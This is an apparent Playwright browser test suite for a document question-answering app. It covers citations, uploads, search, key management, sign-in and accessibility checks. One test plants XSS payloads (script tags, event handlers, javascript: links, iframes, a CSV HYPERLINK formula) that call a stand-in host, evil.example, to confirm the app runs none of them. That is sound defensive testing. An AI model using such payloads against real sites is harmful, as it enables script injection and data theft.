// Drives the page with Chromium: what a person does, what a hostile document tries, and
// whether each view can be used by everybody. SHOTS= writes screenshots there as well.
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { execFileSync } from "node:child_process";
import { join } from "node:path";
import { createRequire } from "node:module";
import { chromium } from "playwright-core";

const { BASE_URL: base, KEYED_URL: keyed, SIGNED_URL: signed, KEY: key, WORK: work, CHROMIUM = "/usr/bin/chromium", SHOTS: shots } = process.env;
const samples = join(import.meta.dirname, "../../../shared/knowledge/reader/formats/testdata");
const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
const problems = [];
let failures = 0;

/** open opens a page of its own browser profile, and notes what goes wrong in it. The page where people sign in elsewhere may be left, and what that other page does is its own affair. */
async function open(url, options = {}) {
  const context = await browser.newContext({ viewport: { width: 1360, height: 850 }, locale: "en-GB", permissions: ["clipboard-read", "clipboard-write"], ...options });
  const page = await context.newPage();
  const own = () => url !== signed || page.url() === "about:blank" || page.url().startsWith(new URL(url).origin);
  page.on("pageerror", (e) => problems.push(`error in the page: ${e.message}`));
  page.on("console", (m) => m.type() === "error" && own() && !/status of 40[14]|status of 422/.test(m.text()) && problems.push(`console: ${m.text()}`));
  page.on("request", (r) => own() && !(url === signed && r.isNavigationRequest()) && !r.url().startsWith(new URL(url).origin) && !/^(data|blob):/.test(r.url()) && problems.push(`a request to ${r.url()}`));
  page.on("dialog", (d) => { problems.push(`a dialog: ${d.message()}`); void d.dismiss(); });
  await page.goto(url);
  return page;
}

async function test(name, run) {
  const before = problems.length;
  try {
    const note = await run();
    const fresh = problems.slice(before);
    if (fresh.length) throw new Error(fresh.join("; "));
    console.log(`ok   ${name}${note ? `: ${note}` : ""}`);
  } catch (e) {
    failures++;
    console.log(`FAIL ${name}: ${e.message.split("\n").slice(0, 6).join(" ")}`);
  }
}

const partners = ["Acme Ltd", "Aldine Press", "Borealis Timber", "Brightwater Foods", "Calder & Sons", "Corvus Freight", "Delta Lime", "Eastgate Tools", "Elm Street Bakery", "Fjord Cables", "Garnet Glass", "Halden Paper", "Ibis Textiles", "Juniper Farms", "Kestrel Optics", "Lindqvist AB", "Marlow Mills", "Northwind Shipping", "Oakfield Dairy", "Pemberton Steel", "Quarry Stone Co", "Rowan Chemicals", "Saltmarsh Fish", "Tern Logistics", "Umber Paints", "Vesper Lighting", "Wexford Wool", "Yarrow Seeds", "Zephyr Fans", "Zollern Valves"];

function check(ok, what) { if (!ok) throw new Error(what); }

const view = (page, path) => page.evaluate((p) => { location.hash = `#/${p}`; }, path);

async function ask(page, question) {
  await page.fill("#question", question);
  await page.keyboard.press("Enter");
  await page.waitForSelector(".turn[data-last] footer", { timeout: 20000 });
}

async function upload(page, files, selector = ".files") {
  await page.waitForSelector(selector, { state: "attached" });
  await page.setInputFiles(selector, files);
  await page.waitForSelector(".progress");
  await page.waitForFunction(() => document.querySelector(".progress") && !document.querySelector(".progress progress"), null, { timeout: 60000 });
}

async function axeOn(page, name) {
  await page.evaluate(axe);
  const { violations } = await page.evaluate(() => axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"] }));
  const bad = violations.map((v) => `${v.impact} ${v.id} (${v.nodes.length}): ${v.nodes[0].html.slice(0, 120)} ${v.nodes[0].failureSummary?.split("\n")[1] ?? ""}`);
  check(!bad.length, `${name}: ${bad.join(" | ")}`);
}

const page = await open(base);

await test("the first screen loads in less than a second and 150 KB", async () => {
  await page.waitForSelector(".sample-card");
  const other = await open(base);
  await other.waitForSelector(".sample-card");
  const { paint, bytes, loads } = await other.evaluate(() => ({
    paint: performance.getEntriesByName("first-contentful-paint")[0]?.startTime ?? 0,
    bytes: performance.getEntriesByType("resource").filter((r) => /assets/.test(r.name)).reduce((sum, r) => sum + r.encodedBodySize, 0) + performance.getEntriesByType("navigation")[0].encodedBodySize,
    loads: performance.getEntriesByType("resource").filter((r) => /assets/.test(r.name)).length,
  }));
  await other.context().close();
  check(paint < 1000, `first paint after ${paint} ms`);
  check(bytes < 150 * 1024, `${bytes} bytes`);
  return `first paint ${Math.round(paint)} ms, ${(bytes / 1024).toFixed(1)} KiB in ${loads} files`;
});

await test("the sample handbook gives a cited answer within five seconds of opening", async () => {
  const started = Date.now();
  const fresh = await open(base);
  await fresh.click(".sample-card");
  await fresh.click(".suggestions button");
  await fresh.waitForSelector(".cite");
  const took = Date.now() - started;
  await fresh.waitForSelector(".meta .good");
  check(/(\d) of \1 quotations? verified/.test(await fresh.textContent(".meta .good")), "quotations are not verified");
  check(took < 5000, `${took} ms`);
  await fresh.context().close();
  return `${took} ms`;
});

await test("a citation opens its place, and the keys step through", async () => {
  await page.reload();
  await view(page, "ask");
  await page.waitForSelector("#question");
  await ask(page, "How many days of paid leave do I have?");
  await page.hover(".cite");
  check((await page.textContent(".quote-card q")).includes("28 days"), "the hover has no quotation");
  await page.click(".cite");
  await page.waitForSelector(".pane mark");
  check((await page.textContent(".pane mark")) === "Every employee has 28 days of paid leave a year.", `marked is ${await page.textContent(".pane mark")}`);
  check(await page.isVisible(".pane .lit mark"), "the paragraph is not light");
  const cites = await page.locator(".turn[data-last] .cite").count();
  await page.evaluate(() => document.activeElement.blur());
  await page.keyboard.press("]");
  await page.waitForFunction((k) => document.querySelector(".pane-steps span")?.textContent.startsWith("2 of") || k < 2, cites);
  await page.keyboard.press("1");
  await page.waitForFunction((k) => document.querySelector(".pane-steps span")?.textContent.startsWith("1 of") || k < 2, cites);
  await page.keyboard.press("Escape");
  await page.waitForSelector(".pane", { state: "detached" });
});

await test("a follow-up, an edited question, and what is not there", async () => {
  await ask(page, "And what do I do when I fall ill?");
  check(await page.locator(".turn").count() === 2, "no second turn");
  await page.hover(".turn >> nth=0");
  await page.click(".turn >> nth=0 >> .edit");
  await page.fill(".edit-form textarea", "How much is paid for a hotel in Oslo?");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => document.querySelectorAll(".turn").length === 1 && document.querySelector(".turn footer"));
  check((await page.textContent(".answer")).includes("190"), `Oslo: ${await page.textContent(".answer")}`);
  await ask(page, "What is the melting point of tungsten?");
  check(await page.isVisible(".turn[data-last] .answer.nothing"), "nothing relevant is not shown as such");
});

await test("a conversation is kept, exported, linked and forgotten", async () => {
  await page.reload();
  await page.waitForSelector(".turn .cite");
  check(await page.locator(".history-row").count() >= 1, "no history");
  await page.click("[aria-label='Export the conversation']");
  const [file] = await Promise.all([page.waitForEvent("download"), page.click(".menu-panel button:has-text('Markdown')")]);
  const text = readFileSync(await file.path(), "utf8");
  check(text.includes("[1] ") && text.includes("“"), "the export has no sources");
  await page.hover(".turn >> nth=0");
  await page.click(".turn >> nth=0 >> [aria-label='Copy a link to this answer']");
  const link = await page.evaluate(() => navigator.clipboard.readText());
  const other = await open(link);
  await other.waitForSelector("#question");
  await other.waitForFunction(() => document.querySelector("#question").value.includes("Oslo"));
  await other.context().close();
});

await test("a real PDF: uploaded, asked, the citation marked on its page", async () => {
  await view(page, "library/papers");
  await upload(page, [process.env.PDF ?? join(samples, "lamps.pdf")]);
  await page.waitForSelector(".row .doc");
  await page.click("button:has-text('Ask this collection')");
  await page.waitForSelector("#question");
  await ask(page, process.env.PDF_QUESTION ?? "What are the kinds of lamps?");
  await page.waitForSelector(".turn[data-last] .cite");
  await page.click(".turn[data-last] .cite");
  await page.waitForSelector(".pdf-page canvas", { timeout: 15000 });
  await page.waitForSelector(".pdf-mark", { timeout: 15000 });
  const at = await page.evaluate(() => {
    const mark = document.querySelector(".pdf-mark"), p = mark.closest(".pdf-page"), box = mark.getBoundingClientRect(), pane = document.querySelector(".pane-body").getBoundingClientRect();
    return { page: p.dataset.page, seen: box.top >= pane.top && box.bottom <= pane.bottom, said: document.querySelector(".pane-title p").textContent };
  });
  check(at.seen, "the mark is not in view");
  check(at.said.includes(`page ${at.page}`), `marked on page ${at.page}, the pane says ${at.said}`);
  return `page ${at.page}`;
});

await test("a folder of 30 files with one failure, tried again, deleted and taken back", async () => {
  const dir = join(work, "agreements");
  mkdirSync(dir, { recursive: true });
  const files = Array.from({ length: 30 }, (_, i) => {
    const at = join(dir, i === 7 ? "broken.pdf" : `${partners[i].toLowerCase().replaceAll(/[^a-z]+/g, "-")}.md`);
    writeFileSync(at, i === 7 ? "%PDF-1.4 not really" : `# Supply agreement with ${partners[i]}\n\n## Term\n\nThe agreement begins on ${1 + i % 28} March 2026. `
      + `The notice period is ${[4, 6, 8, 12][i % 4]} weeks to the end of a quarter.\n\n## Payment\n\nInvoices of ${partners[i]} are paid within ${[14, 30, 45][i % 3]} days.\n`);
    return at;
  });
  await view(page, "library/agreements");
  await page.waitForSelector("h1:has-text('agreements')");
  await upload(page, files);
  check((await page.textContent(".progress-head")).includes("29 documents read"), await page.textContent(".progress-head"));
  check((await page.textContent(".progress-head")).includes("1 failed"), "the failure is not counted");
  check((await page.textContent(".failures .job")).includes("broken.pdf"), "the failure is not named");
  const [list] = await Promise.all([page.waitForEvent("download"), page.click("button:has-text('List of failures')")]);
  check(readFileSync(await list.path(), "utf8").includes("broken.pdf"), "the list lacks it");
  await page.click(".failures button:has-text('Try again')");
  await page.waitForFunction(() => document.querySelector(".failures .job") && !document.querySelector(".progress progress"));
  await page.click("[aria-label='Close']");
  await page.waitForFunction(() => document.querySelectorAll(".rows .row .doc").length > 5);
  await page.hover(".rows .row:nth-child(3)");
  await page.click(".rows .row:nth-child(3) [aria-label^='Delete']");
  check((await page.textContent(".documents .bar")).includes("28 documents"), "not deleted");
  await page.click(".notice button:has-text('Undo')");
  await page.waitForFunction(() => document.querySelector(".documents .bar").textContent.includes("29 documents"));
});

await test("a long ingest is stopped", async () => {
  await view(page, "library/stopped");
  await page.waitForSelector("h1:has-text('stopped')");
  await page.setInputFiles(".files", Array.from({ length: 300 }, (_, i) => ({ name: `many-${i}.md`, mimeType: "text/markdown", buffer: Buffer.from(`# ${i}\n\nText ${i}.\n`) })));
  await page.waitForFunction(() => /Reading \d+ of 300/.test(document.querySelector(".progress-head")?.textContent ?? ""));
  await page.click(".progress button:has-text('Stop')");
  await page.waitForFunction(() => document.querySelector(".progress") && !document.querySelector(".progress progress"), null, { timeout: 15000 });
  const said = await page.textContent(".progress-head b");
  check(Number(said.split(" ")[0]) < 300, said);
  return said;
});

await test("a stream is stopped", async () => {
  const slow = await open(`${process.env.SLOW_URL}/#/ask`);
  await slow.click(".sample-card");
  await slow.waitForSelector("#question");
  await slow.fill("#question", "Tell me everything.");
  await slow.keyboard.press("Enter");
  await slow.waitForFunction(() => document.querySelector(".answer")?.textContent.includes("word 3"));
  await slow.click("[aria-label='Stop']");
  await slow.waitForSelector("text=Stopped.");
  const said = await slow.textContent(".answer");
  await slow.waitForTimeout(400);
  check(said === (await slow.textContent(".answer")), "it goes on");
  check(!said.includes("word 200"), "it was not stopped");
  await slow.context().close();
});

await test("a table with a chart, exported as CSV and PNG", async () => {
  const at = join(work, "sales.csv");
  writeFileSync(at, "Region,Amount,Day\n" + Array.from({ length: 60 }, (_, i) => `${["North", "South", "East", "West"][i % 4]},${100 + i * 3},2026-0${1 + (i % 9)}-11`).join("\n") + "\n");
  await view(page, "library/sheets");
  await page.waitForSelector("h1:has-text('sheets')");
  await upload(page, [at]);
  await view(page, "tables");
  await page.waitForSelector("[aria-label='Sheet'], .drop-zone");
  await page.fill("#question", "What is the total amount per region?");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".chart");
  check(await page.locator(".chart rect").count() === 4, "not four bars");
  check((await page.textContent(".sql pre")).includes("SELECT"), "no statement");
  const [csv] = await Promise.all([page.waitForEvent("download"), page.click("button:has-text('CSV')")]);
  check(readFileSync(await csv.path(), "utf8").startsWith("region,"), "the CSV");
  const [png] = await Promise.all([page.waitForEvent("download"), page.click("button:has-text('PNG')")]);
  check(readFileSync(await png.path()).subarray(1, 4).toString() === "PNG", "the PNG");
});

await test("search with its reasons and a filter; review of each document", async () => {
  await view(page, "search");
  await page.waitForSelector("#search");
  await page.selectOption("[aria-label='Collection']", "agreements");
  await page.fill("#search", "notice period with Acme");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".result");
  await page.click(".result summary");
  check((await page.textContent(".explain")).includes("notice"), "no words that match");
  await page.click("button:has-text('Filter')");
  await page.fill("[aria-label='Field']", "file_name");
  await page.fill("[aria-label='Value']", "acme-ltd.md");
  await page.click(".search-line button");
  await page.waitForFunction(() => { const all = [...document.querySelectorAll(".result-title")]; return all.length > 0 && all.every((r) => r.textContent.includes("Acme")); });
  await page.click(".result-title");
  await page.waitForSelector(".pane mark");
  await view(page, "review");
  await page.waitForSelector(".review, .search-form");
  await page.selectOption("[aria-label='Collection']", "agreements");
  await page.fill("#question", "What is the notice period?");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => document.querySelectorAll(".review tbody tr").length === 29 && !document.querySelector(".data-view progress"), null, { timeout: 30000 });
  check(await page.locator(".review .cite").count() >= 20, "cells are not cited");
});

await test("a hostile document runs nothing", async () => {
  const dir = join(work, "hostile");
  mkdirSync(dir, { recursive: true });
  const code = (k) => `window.ran=${k};fetch('https://evil.example/'+${k})`;
  const files = {
    "<img src=x onerror=window.ran=1>.md": `# Robins <script>${code(2)}</script>\n\nRobins sing <img src=x onerror="${code(3)}"> in spring [click](javascript:${encodeURIComponent(code(4))}) ![pixel](https://evil.example/p.png) loudly.\n\n<svg onload="${code(5)}"></svg> \uE0001\uE001\n`,
    "page.html": `<html><head><title>Wrens <script>${code(6)}</script></title></head><body><h1>Wrens</h1><p onclick="${code(7)}">Wrens build nests <script>${code(8)}</script> of moss.</p><iframe src="https://evil.example/"></iframe></body></html>`,
    "table.csv": `name,value\n"<b onmouseover=${code(9)}>x</b>",1\n"=HYPERLINK(""https://evil.example"")",2\n`,
  };
  const at = Object.entries(files).map(([name, body]) => ({ name, mimeType: "text/plain", buffer: Buffer.from(body) }));
  await view(page, "library/hostile");
  await page.waitForSelector("h1:has-text('hostile')");
  await upload(page, at);
  for (const row of await page.locator(".row .doc").all()) {
    await row.click();
    await page.waitForSelector(".pane .stored");
  }
  await page.click("button:has-text('Ask this collection')");
  for (const q of ["What do robins do in spring?", "What do wrens build?", "What is the name with value 1?"]) {
    await ask(page, q);
    for (const c of await page.locator(".turn[data-last] .cite").all()) { await c.hover(); await c.click(); await page.waitForTimeout(50); }
  }
  await page.waitForTimeout(300);
  check(await page.evaluate(() => window.ran === undefined), `ran ${await page.evaluate(() => window.ran)}`);
  check(await page.locator("main img, main iframe, .pane img, .pane iframe, main svg[onload]").count() === 0, "foreign elements");
});

await test("an answer loads no picture and no page from elsewhere", async () => {
  const p = await open(`${process.env.SLOW_URL}/#/ask`);
  await p.waitForSelector("#question");
  await ask(p, "Show a picture");
  await p.waitForFunction(() => document.querySelector(".turn[data-last] .answer")?.textContent.includes("said"));
  await p.waitForTimeout(300);
  check(await p.locator("main img, main iframe, main link, main [style*=evil]").count() === 0, "foreign elements");
  await p.context().close();
});

await test("a key is asked for, kept for the tab, and a wrong one refused", async () => {
  const p = await open(keyed);
  await p.waitForSelector("dialog");
  await axeOn(p, "the key");
  await p.fill("dialog input", "wrong:key");
  await p.click("dialog button");
  await p.waitForSelector("text=This key is not accepted.");
  await p.fill("dialog input", key);
  await p.click("dialog button");
  await p.waitForSelector("dialog", { state: "detached" });
  await p.waitForSelector(".sample-card");
  await p.reload();
  await p.waitForSelector(".sample-card");
  check(await p.evaluate(() => !JSON.stringify(localStorage).includes("key") && document.cookie === ""), "the key is kept beyond the tab");
  // The first document of a service, brought in on the first screen, can be asked at once.
  await p.setInputFiles(".files", [{ name: "owls.md", mimeType: "text/markdown", buffer: Buffer.from("# Owls\n\nOwls hunt at night.\n") }]);
  await p.waitForSelector("#question");
  await ask(p, "When do owls hunt?");
  check((await p.textContent(".answer")).includes("at night"), "no answer");
  await p.context().close();
});

await test("somebody signs in by an OpenID provider, asks, and signs out", async () => {
  const p = await open(signed);
  await p.waitForSelector("dialog >> text=Sign in at 127.0.0.1");
  await axeOn(p, "sign in");
  await p.click("dialog >> text=Sign in at 127.0.0.1");
  await p.waitForSelector("input[name=login]");
  check(new URL(p.url()).origin !== signed, "the page of the provider is the service's");
  await p.fill("input[name=login]", "ann");
  await p.fill("input[name=password]", "any");
  await p.click("button[type=submit]");
  await p.waitForSelector("text=Authorize", { timeout: 10000 });
  await p.click("button[type=submit]");
  await p.waitForSelector(".sample-card");
  check(p.url().startsWith(`${signed}/`) && !p.url().includes("code="), `the code stays in the address: ${p.url()}`);
  await p.setInputFiles(".files", [{ name: "owls.md", mimeType: "text/markdown", buffer: Buffer.from("# Owls\n\nOwls hunt at night.\n") }]);
  await p.waitForSelector("#question");
  await ask(p, "When do owls hunt?");
  check((await p.textContent(".answer")).includes("at night"), "no answer");
  await view(p, "inside");
  await p.waitForSelector(".kinds");
  check(await p.locator(".tabs").count() === 0, "who signs in administers");
  await p.goto(`${signed}/?code=x&state=y`);
  await p.waitForSelector(".sample-card, #question");
  await p.context().close();
});

await test("look inside: a key without limits makes a key, sees what it used, and revokes it; that key sees none of it", async () => {
  const p = await open(keyed);
  const signIn = async (value) => { await p.waitForSelector("dialog"); await p.fill("dialog input", value); await p.click("dialog button"); await p.waitForSelector("dialog", { state: "detached" }); };
  await signIn(key);
  await view(p, "inside");
  await p.click(".tabs >> text=Keys");
  await p.click("button:has-text('Make a key')");
  await p.fill("dialog label:has-text('Name') input", "shop");
  await p.fill("dialog label:has-text('Collections') input", "products, faq");
  await p.fill("dialog label:has-text('Requests a minute') input", "60");
  await axeOn(p, "make a key");
  await p.click("dialog button.primary");
  const made = await p.textContent(".made-key");
  check(/^lectern-[A-Z2-7]{26}$/.test(made), `made ${made}`);
  await p.click("dialog button.primary");
  await p.waitForSelector("tr:has-text('shop')");
  check(!(await p.content()).includes(made), "the key is shown again");
  const ask = await fetch(`${keyed}/v1/messages`, { method: "POST", headers: { "x-api-key": made }, body: JSON.stringify({ model: "default", max_tokens: 20, messages: [{ role: "user", content: "hello" }] }) });
  check(ask.ok && ask.headers.get("anthropic-ratelimit-requests-limit") === "60", `the key: ${ask.status}`);
  await p.reload();
  await p.waitForSelector("tr:has-text('shop') td.num:has-text('1')");
  await p.click(".tabs >> text=Requests");
  await p.waitForSelector("td:has-text('POST /v1/messages')");
  await axeOn(p, "requests");
  await p.click(".tabs >> text=Settings");
  await p.waitForSelector("tr:has-text('SERVER_AUTH_SECRET') >> text=(secret)");
  check(!(await p.content()).includes(Buffer.from(key).toString("base64")), "the settings show the secret");
  await axeOn(p, "settings");
  await p.click(".tabs >> text=Work");
  await p.waitForSelector("text=Async messages");
  await axeOn(p, "work");
  const other = await open(keyed);
  await other.waitForSelector("dialog");
  await other.fill("dialog input", made);
  await other.click("dialog button");
  await other.waitForSelector("dialog", { state: "detached" });
  await view(other, "inside/keys");
  await other.waitForSelector(".kinds");
  await other.waitForTimeout(300);
  check(await other.locator(".tabs").count() === 0 && !(await other.content()).includes("shop"), "a limited key sees the keys");
  await p.click(".tabs >> text=Keys");
  await p.click("[aria-label='Revoke shop']");
  await axeOn(p, "revoke");
  await p.click("dialog button.primary");
  await p.waitForSelector("tr:has-text('shop') >> text=revoked");
  const gone = await fetch(`${keyed}/v1/models`, { headers: { "x-api-key": made } });
  check(gone.status === 401, `revoked: ${gone.status}`);
  await other.context().close();
  await p.context().close();
});

await test("1,000 documents are listed without jank", async () => {
  const docs = Array.from({ length: 1000 }, (_, i) => i);
  for (let i = 0; i < docs.length; i += 50) {
    await Promise.all(docs.slice(i, i + 50).map((k) => fetch(`${base}/v1/artifacts/ingest`, { method: "POST", body: JSON.stringify({ collection: "thousand", artifact: `d${k}`, input: { type: "text", value: `Document ${k} has its own words.` } }) })));
  }
  await page.reload();
  const started = Date.now();
  await view(page, "library/thousand");
  await page.waitForFunction(() => document.querySelector(".documents .bar")?.textContent.includes("1,000 documents"));
  await page.waitForSelector(".row .doc");
  const listed = Date.now() - started;
  const frames = await page.evaluate(async () => {
    const box = document.querySelector(".rows");
    const frames = [];
    let last = performance.now();
    for (let y = 0; y < box.scrollHeight; y += 600) {
      box.scrollTop = y;
      await new Promise(requestAnimationFrame);
      frames.push(performance.now() - last);
      last = performance.now();
    }
    return frames.sort((a, b) => a - b);
  });
  const [half, most] = [frames[frames.length >> 1], frames[Math.floor(frames.length * 0.9)]];
  check(await page.locator(".rows .row").count() < 100, "all rows are drawn");
  check(half < 50 && most < 150, `half of the frames took ${half} ms, nine of ten ${most} ms`); // other work on the machine counts in
  return `listed after ${listed} ms, half of the frames within ${Math.round(half)} ms, nine of ten within ${Math.round(most)} ms`;
});

await test("menus and dialogs can be used by everybody", async () => {
  const p = await open(`${base}/#/ask`);
  await p.click(".scope");
  await axeOn(p, "scope");
  await p.keyboard.press("Escape");
  await p.click(".ask > .bar .menu:last-child > button");
  await axeOn(p, "model");
  await view(p, "library/sample");
  await p.click("button:has-text('Text or address')");
  await axeOn(p, "text or address");
  await p.fill("dialog textarea", "# Owls\n\nOwls hunt at night.");
  await p.click("dialog .primary");
  await p.waitForSelector(".row .doc:has-text('Owls')");
  await p.context().close();
});

await test("German, and the look", async () => {
  const p = await open(base, { locale: "de-DE" });
  await p.waitForSelector("nav >> text=Bibliothek");
  await p.click("[title='Aussehen und Sprache']");
  await p.click("text=Dunkel");
  check(await p.evaluate(() => document.documentElement.dataset.theme === "dark" && document.documentElement.lang === "de"), "not dark or not German");
  await p.context().close();
});

await test("the guide: every call runs as written, and the reference opens", async () => {
  const p = await open(`${base}/docs`);
  await p.waitForSelector(".example");
  const calls = await p.locator(".example").all();
  for (const c of calls) {
    await c.locator("button:has-text('Run')").click();
    await c.locator(".outcome").waitFor();
    const said = await c.locator(".outcome p").textContent();
    const title = await c.locator("figcaption b").textContent();
    check(said.startsWith("200") || title === "A request with two problems" && said.startsWith("422"), `${title}: ${said}`);
  }
  // The first question as curl, by the shell.
  const curl = await calls[1].locator("pre[data-dialect=curl]").textContent();
  const answer = JSON.parse(execFileSync("bash", ["-c", curl]));
  check(answer.content.some((b) => b.citations?.some((c) => c.cited_text.includes("28 days"))), "curl has no cited answer");
  check(await p.locator(".block").count() > 20, "the content blocks are not listed");
  await p.evaluate(() => scrollTo(0, 0));
  await axeOn(p, "guide");
  if (shots) { await p.reload(); await p.waitForTimeout(400); await p.screenshot({ path: join(shots, "guide-desktop-light.png") }); }
  await p.click("nav >> text=Reference");
  await p.waitForSelector(".redoc-wrap h1", { timeout: 20000 });
  check((await p.textContent(".redoc-wrap")).includes("/v1/messages"), "the reference is empty");
  await p.context().close();
  return `${calls.length} calls`;
});

// A library to look at: the documents that the readers are tested with.
const library = process.env.LIBRARY ?? samples; // a folder of documents
for (const name of readdirSync(library).filter((f) => library !== samples || f.startsWith("lamps."))) {
  const body = { collection: "library", artifact: name, metadata: { file_name: name }, input: { type: "file", value: readFileSync(join(library, name)).toString("base64") } };
  await fetch(`${base}/v1/artifacts/ingest`, { method: "POST", body: JSON.stringify(body) });
}

// Each view, in both looks and both widths: axe-core, and the pictures.
const views = {
  first: async (p) => { await p.route("**/v1/collections", (r) => r.fulfill({ json: { object: "list", data: [], has_more: false } })); await p.reload(); await p.waitForSelector(".sample-card"); },
  start: async (p) => { await view(p, "ask"); await scope(p, "sample"); await p.waitForSelector(".suggestions button"); },
  ask: async (p) => { await p.waitForSelector("#question"); await scope(p, "papers"); await ask(p, process.env.PDF_QUESTION ?? "What are the kinds of lamps?"); await p.waitForSelector(".meta .good"); },
  source: async (p) => { await p.click(".turn[data-last] .cite"); await p.waitForSelector(".pdf-mark"); await p.waitForTimeout(900); },
  library: async (p) => { await view(p, "library/library"); await p.waitForSelector(".row .doc"); },
  search: async (p) => { await view(p, "search"); await p.waitForSelector("#search"); await p.selectOption("[aria-label='Collection']", "sample"); await p.fill("#search", "paid days of leave"); await p.keyboard.press("Enter"); await p.waitForSelector(".result"); await p.click(".result summary"); },
  tables: async (p) => { await view(p, "tables"); await p.waitForSelector("#question"); await p.selectOption("[aria-label='Collection']", "sheets"); await p.fill("#question", "What is the total amount per region?"); await p.keyboard.press("Enter"); await p.waitForSelector(".chart"); },
  review: async (p) => { await view(p, "review"); await p.waitForSelector("#question"); await p.selectOption("[aria-label='Collection']", "agreements"); await p.fill("#question", "What is the notice period?"); await p.keyboard.press("Enter"); await p.waitForFunction(() => document.querySelectorAll(".review .cite").length > 15 && !document.querySelector(".data-view progress")); },
  inside: async (p) => { await view(p, "inside"); await p.waitForSelector(".checks"); await p.waitForSelector("text=Requests since the start"); },
  requests: async (p) => { await view(p, "inside/requests"); await p.waitForSelector("td.path"); },
};

async function scope(p, name) {
  await p.waitForSelector(".scope");
  await p.click(".scope");
  for (const box of await p.locator(".scope-panel > .check").all()) {
    const own = (await box.locator("span").first().textContent()) === name;
    if (own) await box.locator("input").check();
  }
  for (const box of await p.locator(".scope-panel > .check").all()) {
    if ((await box.locator("span").first().textContent()) !== name) await box.locator("input").uncheck();
  }
  await p.keyboard.press("Escape");
}

for (const [size, viewport] of [["desktop", { width: 1280, height: 800 }], ["phone", { width: 390, height: 780 }]]) {
  for (const theme of ["light", "dark"]) {
    await test(`axe-core finds nothing: ${size}, ${theme}`, async () => {
      const p = await open(base, { viewport, colorScheme: theme, reducedMotion: "reduce", hasTouch: size === "phone" });
      for (const [name, show] of Object.entries(views)) {
        await show(p);
        await p.evaluate(() => document.activeElement?.blur());
        await p.waitForTimeout(250);
        await axeOn(p, name);
        const wide = await p.evaluate(() => [document.documentElement.scrollWidth - innerWidth, document.querySelector("main").getBoundingClientRect().width / innerWidth]);
        check(wide[0] <= 0 && wide[1] > (size === "phone" ? 0.99 : 0.35), `${name}: ${wide[0]} pixels too wide, the view takes ${wide[1].toFixed(2)} of the width`);
        if (shots) await p.screenshot({ path: join(shots, `${name}-${size}-${theme}.png`) });
        if (name === "first") { await p.unroute("**/v1/collections"); await p.reload(); }
      }
      await p.context().close();
      return `${Object.keys(views).length} views`;
    });
  }
}

await browser.close();
if (failures) { console.log(`${failures} failed`); process.exit(1); }
